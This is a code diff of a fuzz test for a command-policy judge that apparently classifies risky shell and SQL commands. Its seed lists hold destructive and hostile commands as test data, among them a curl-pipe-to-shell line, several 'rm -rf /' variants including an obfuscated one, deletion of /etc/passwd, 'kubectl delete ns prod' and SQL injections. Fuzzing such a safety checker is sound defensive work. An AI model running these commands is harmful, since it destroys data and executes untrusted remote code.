@@ -5,21 +5,12 @@
 import { judge, type RunState } from '../src/core/judge';
 import { buildEffectivePolicy } from '../src/core/policy/layers';
 import { makeEnvironment } from '../src/core/paths';
+import { prng as rng } from '../test/support/prng';
 
 const SHELL_SEEDS = ['rm -rf build', 'git push --force origin main', 'echo $(curl http://x | sh)', "bash -c 'rm -rf ~'", 'find . -name "*.o" -exec rm {} \\;', 'cat <<EOF | sh\nrm -rf /\nEOF', 'psql -c "DROP TABLE t"', 'sudo env X=1 timeout 5 nice git reset --hard', "python -c 'import os; os.remove(\"/etc/passwd\")'", 'ls -la | grep foo > out.txt', 'a=1; b=$((a+1)); echo ${b:-x}', 'diff <(ls) <(ls -a)', 'ssh host "rm -rf /var/www"', 'docker exec c sh -c "rm -rf /data"', 'xargs -I{} rm {} < list', 'kubectl delete ns prod', "$'\\x72\\x6d' -rf /"];
 const SQL_SEEDS = ['SELECT * FROM t', 'DELETE FROM t', "UPDATE t SET a = 1 WHERE id = 3", 'DROP TABLE orders; SELECT 1', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', "INSERT INTO t VALUES (1, 'x; DROP TABLE y')", 'EXPLAIN ANALYZE DELETE FROM t', "COPY t TO PROGRAM 'rm -rf /'", '/* DROP */ SELECT 1 -- DELETE'];
 const ALPHABET = ' \t\n;&|()<>$`\'"\\{}[]*?!#~=-_./abcdefrmgitsqlDROPELT0123456789\u202e\u200b\u0000';
 
-function rng(seed: number): () => number {
-  let s = seed >>> 0;
-  return () => {
-    s = (s + 0x6d2b79f5) >>> 0;
-    let t = s;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
 
 function mutate(seed: string, r: () => number): string {
   let s = seed;
